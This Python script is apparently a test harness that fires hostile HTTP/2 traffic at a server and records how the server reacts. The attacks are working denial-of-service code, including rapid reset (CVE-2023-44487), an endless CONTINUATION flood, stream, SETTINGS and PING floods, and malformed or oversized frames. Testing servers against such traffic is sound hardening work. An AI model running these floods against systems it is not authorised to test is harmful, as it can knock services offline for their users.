#!/usr/bin/python3
"""Hostile HTTP/2 clients against one origin, each on a connection of its own.

Usage: h2_barrage.py HOST PORT PATH SEGMENT_PATH [--tls]

Crafts what a well-behaved client library never sends (frames built with hyperframe and hpack,
the parts of the `h2` package that do not police the sender): rapid reset (CVE-2023-44487),
stream floods past SETTINGS_MAX_CONCURRENT_STREAMS, a CONTINUATION flood, SETTINGS and PING
floods without reading, oversized and malformed frames, a header list past the limit, a
preface cut short, segments asked for with a flow-control window of 0. Prints one JSON line per attack: what the server answered (the GOAWAY
error code, how many RST_STREAMs and with which codes, responses seen, whether it closed the
connection) and how many bytes it took before closing. The test decides what is acceptable.
"""

import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port, tls):
    s = socket.create_connection((host, port), timeout=10)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname=host)
        if s.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not select h2 by ALPN")
    return s


def request_block(enc, host, port, path, extra=()):
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", f"{host}:{port}"),
        (":path", path),
    ] + list(extra)
    return enc.encode(headers)


def read_frames(s, seconds):
    """Reads frames for up to `seconds` (or until the server closes): a summary."""
    out = {"goaway": None, "rst": {}, "responses": 0, "closed": False, "frames": 0, "data_bytes": 0}
    buf = b""
    deadline = time.time() + seconds
    s.settimeout(0.5)
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            out["closed"] = True
            break
        if not chunk:
            out["closed"] = True
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            frame, _ = Frame.parse_frame_header(memoryview(buf[:9]))
            frame.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            out["frames"] += 1
            if isinstance(frame, GoAwayFrame):
                out["goaway"] = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                out["rst"][str(frame.error_code)] = out["rst"].get(str(frame.error_code), 0) + 1
            elif isinstance(frame, HeadersFrame):
                out["responses"] += 1
            elif isinstance(frame, DataFrame):
                out["data_bytes"] += len(frame.data)
    return out


def start(host, port, tls):
    s = connect(host, port, tls)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    return s


def send_all(s, frames, budget_bytes):
    """Sends frames until the budget is spent or the server stops taking them: bytes sent."""
    sent = 0
    s.settimeout(5)
    try:
        for f in frames:
            data = f if isinstance(f, bytes) else f.serialize()
            s.sendall(data)
            sent += len(data)
            if sent >= budget_bytes:
                break
    except (ConnectionResetError, BrokenPipeError, socket.timeout, ssl.SSLError, OSError):
        pass
    return sent


def rapid_reset(host, port, path, tls):
    s = start(host, port, tls)
    enc = hpack.Encoder()

    def frames():
        for i in range(5000):
            sid = 1 + 2 * i
            yield HeadersFrame(sid, request_block(enc, host, port, path), flags=["END_HEADERS", "END_STREAM"])
            yield RstStreamFrame(sid, error_code=8)

    sent = send_all(s, frames(), 10 << 20)
    return dict(read_frames(s, 3), sent=sent)


def stream_flood(host, port, path, tls):
    s = start(host, port, tls)
    enc = hpack.Encoder()
    # Streams whose responses are never read (window 0 for the connection would be rude to
    # nobody but ourselves): 1,000 opened at once, over the advertised 128.
    sent = send_all(
        s,
        (
            HeadersFrame(1 + 2 * i, request_block(enc, host, port, path), flags=["END_HEADERS", "END_STREAM"])
            for i in range(1000)
        ),
        10 << 20,
    )
    return dict(read_frames(s, 3), sent=sent)


def continuation_flood(host, port, path, tls):
    s = start(host, port, tls)
    enc = hpack.Encoder()
    first = HeadersFrame(1, request_block(enc, host, port, path), flags=["END_STREAM"])
    filler = hpack.Encoder().encode([("x-filler", "a" * 8000)])

    def frames():
        yield first
        while True:
            yield ContinuationFrame(1, filler)

    sent = send_all(s, frames(), 64 << 20)
    return dict(read_frames(s, 3), sent=sent)


def settings_flood(host, port, path, tls):
    s = start(host, port, tls)
    sent = send_all(s, (SettingsFrame(0, settings={4: 65535}) for _ in range(200_000)), 64 << 20)
    return dict(read_frames(s, 2), sent=sent)


def ping_flood(host, port, path, tls):
    s = start(host, port, tls)
    sent = send_all(s, (PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(200_000)), 64 << 20)
    return dict(read_frames(s, 2), sent=sent)


def oversized_frame(host, port, path, tls):
    s = start(host, port, tls)
    # A DATA frame longer than the 16 KiB SETTINGS_MAX_FRAME_SIZE: FRAME_SIZE_ERROR.
    head = (1 << 20).to_bytes(3, "big") + bytes([0, 0]) + (1).to_bytes(4, "big")
    sent = send_all(s, [head + b"x" * 65536], 1 << 20)
    return dict(read_frames(s, 3), sent=sent)


def malformed_frames(host, port, path, tls):
    s = start(host, port, tls)
    bad = [
        # DATA on stream 0: PROTOCOL_ERROR (hyperframe refuses to build it).
        bytes.fromhex("000010000000000000") + b"data on stream 0",
        # WINDOW_UPDATE of 0 on the connection: PROTOCOL_ERROR (hyperframe refuses to build it).
        bytes.fromhex("000004080000000000") + b"\0\0\0\0",
        bytes.fromhex("00000301000000000100ff"),  # HEADERS with a garbage HPACK block
    ]
    sent = send_all(s, bad, 1 << 20)
    return dict(read_frames(s, 3), sent=sent)


def garbage_after_preface(host, port, path, tls):
    s = connect(host, port, tls)
    sent = send_all(s, [PREFACE + bytes(range(256)) * 64], 1 << 20)
    return dict(read_frames(s, 3), sent=sent)


def huge_header_list(host, port, path, tls):
    s = start(host, port, tls)
    enc = hpack.Encoder()
    block = request_block(enc, host, port, path, [("x-big-%d" % i, "b" * 4000) for i in range(64)])
    frames = [HeadersFrame(1, block[:16000], flags=["END_STREAM"])]
    rest = block[16000:]
    while rest:
        chunk, rest = rest[:16000], rest[16000:]
        frames.append(ContinuationFrame(1, chunk, flags=[] if rest else ["END_HEADERS"]))
    sent = send_all(s, frames, 4 << 20)
    return dict(read_frames(s, 3), sent=sent)


def cut_preface(host, port, path, tls):
    s = connect(host, port, tls)
    sent = send_all(s, [PREFACE[:10]], 1 << 20)
    s.close()
    return {"sent": sent, "closed": True}


def zero_window(host, port, path, tls):
    """128 segment requests with a window of 0: headers come back, no DATA may."""
    s = connect(host, port, tls)
    s.sendall(PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    enc = hpack.Encoder()
    seg = SEGMENT
    sent = send_all(
        s,
        (HeadersFrame(1 + 2 * i, request_block(enc, host, port, seg), flags=["END_HEADERS", "END_STREAM"]) for i in range(128)),
        10 << 20,
    )
    return dict(read_frames(s, 3), sent=sent)


def good_request(host, port, path, tls):
    s = start(host, port, tls)
    enc = hpack.Encoder()
    s.sendall(HeadersFrame(1, request_block(enc, host, port, path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    return read_frames(s, 2)


ATTACKS = [
    rapid_reset,
    stream_flood,
    continuation_flood,
    settings_flood,
    ping_flood,
    oversized_frame,
    malformed_frames,
    garbage_after_preface,
    huge_header_list,
    cut_preface,
    zero_window,
    good_request,
]
SEGMENT = "/"


def main():
    global SEGMENT
    if len(sys.argv) < 5:
        raise SystemExit(__doc__)
    host, port, path, SEGMENT = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    tls = "--tls" in sys.argv[5:]
    for attack in ATTACKS:
        t0 = time.time()
        try:
            res = attack(host, port, path, tls)
        except Exception as e:  # a refused connection is a finding too
            res = {"error": repr(e)}
        res["attack"] = attack.__name__
        res["seconds"] = round(time.time() - t0, 2)
        print(json.dumps(res), flush=True)


if __name__ == "__main__":
    main()
